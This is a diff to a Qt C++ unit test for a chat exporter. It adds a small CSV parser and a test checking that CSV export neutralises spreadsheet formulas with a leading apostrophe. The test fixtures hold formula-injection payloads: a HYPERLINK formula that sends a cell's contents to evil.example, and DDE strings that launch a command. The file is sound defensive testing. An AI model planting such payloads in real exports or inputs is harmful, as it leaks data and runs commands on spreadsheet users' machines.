@@ -48,6 +48,38 @@ private:
     qint64 m_left;
 };
 
+/** The records of an RFC 4180 document, each a list of fields. */
+QList<QStringList> csvRecords(const QByteArray &csv)
+{
+    const QString text = QString::fromUtf8(csv);
+    QList<QStringList> records;
+    QStringList record;
+    QString field;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text.at(i);
+        if (quoted) {
+            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"')
+                field += text.at(++i);
+            else if (c == u'"')
+                quoted = false;
+            else
+                field += c;
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',') {
+            record << std::exchange(field, QString());
+        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
+            record << std::exchange(field, QString());
+            records << std::exchange(record, QStringList());
+            ++i;
+        } else {
+            field += c;
+        }
+    }
+    return records;
+}
+
 QList<QJsonObject> lines(const QByteArray &jsonLines)
 {
     QList<QJsonObject> out;
@@ -74,6 +106,7 @@ private Q_SLOTS:
     void emptyConversationOnlyWithoutSince();
     void filters();
     void csv();
+    void csvNeutralisesFormulas();
     void failingDevice();
     void manyMessagesStream();
 
@@ -272,6 +305,44 @@ void TestExporter::csv()
     QVERIFY(row.contains(",\"say \"\"hi\"\", then\nleave\","));
     QVERIFY(row.contains(",c1,direct,open,,user7,"));
     QCOMPARE(Exporter::csvColumns().size(), 23);
+}
+
+void TestExporter::csvNeutralisesFormulas()
+{
+    // What a sender can write that a spreadsheet would run (OWASP's list of first characters).
+    const QStringList texts{u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"_s,
+                            u"+1+cmd|' /C calc'!A0"_s,
+                            u"-2+3+cmd|' /C calc'!A0"_s,
+                            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
+                            u"\t=1+1"_s,
+                            u"\r=1+1"_s,
+                            u"a = b, and - and @ later are fine"_s};
+    QList<Message> messages;
+    for (qsizetype i = 0; i < texts.size(); ++i)
+        messages << testdata::inboundDm(m_account.id, u"c1"_s, u"m%1"_s.arg(i), u"7"_s, texts.at(i),
+                                        testdata::at(int(i)));
+    SyncPage p = page(u"c1"_s, u"7"_s, messages);
+    p.identities.first().displayName = u"=cmd|' /C calc'!A0"_s;
+    store(p);
+
+    ExportOptions options;
+    options.format = ExportOptions::Format::Csv;
+    const QList<QStringList> records = csvRecords(exportAll(options));
+    QCOMPARE(records.size(), texts.size() + 1);
+    const qsizetype textColumn = Exporter::csvColumns().indexOf(u"text"_s);
+    const qsizetype nameColumn = Exporter::csvColumns().indexOf(u"author_name"_s);
+    for (qsizetype i = 0; i < texts.size(); ++i) {
+        const QStringList &row = records.at(i + 1);
+        QCOMPARE(row.size(), Exporter::csvColumns().size());
+        const QString &text = texts.at(i);
+        // A leading apostrophe keeps a formula text; anything else is exported as it is.
+        QCOMPARE(row.at(textColumn), i + 1 < texts.size() ? u"'"_s + text : text);
+        QCOMPARE(row.at(nameColumn), u"'=cmd|' /C calc'!A0"_s);
+    }
+    // JSON Lines are data for programs, not sheets: unchanged.
+    const QList<QJsonObject> json = lines(exportAll());
+    for (qsizetype i = 0; i < texts.size(); ++i)
+        QCOMPARE(json.at(i + 1).value(u"text"_s).toString(), texts.at(i));
 }
 
 void TestExporter::failingDevice()
